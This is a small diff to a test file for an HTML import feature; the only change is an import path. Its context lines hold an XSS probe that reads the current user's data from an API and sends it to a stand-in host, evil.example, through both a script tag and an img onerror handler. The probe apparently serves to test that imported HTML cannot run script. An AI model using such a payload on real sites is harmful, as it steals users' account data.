@@ -4,7 +4,7 @@ import type { Db } from '../../db/client.ts';
 import { importDemo } from '../../../test/demo.ts';
 import { importWithFiles } from '../../../test/import-with-files.ts';
 import { setupTestApp } from '../../../test/setup-test-app.ts';
-import { ImportValidationError } from '../import/errors.ts';
+import { ImportValidationError } from '../import/index.ts';
 
 const PROBE = `fetch('/api/platform/v1/users/me').then((r) => r.text()).then((me) => fetch('https://evil.example/?' + me))`;
 const HTML = `<!doctype html><html><body><script>${PROBE}</script><img src="x" onerror="${PROBE}"></body></html>`;
